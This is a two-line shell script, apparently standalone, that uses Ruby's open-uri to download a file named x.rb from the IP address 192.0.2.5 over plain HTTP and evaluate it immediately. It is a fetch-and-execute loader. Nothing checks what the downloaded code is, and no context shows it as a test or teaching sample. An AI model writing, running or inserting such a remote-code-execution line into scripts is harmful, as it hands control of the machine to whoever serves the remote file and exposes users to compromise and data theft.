#!/bin/sh
ruby -ropen-uri -e 'eval(URI.open("http://192.0.2.5/x.rb").read)'
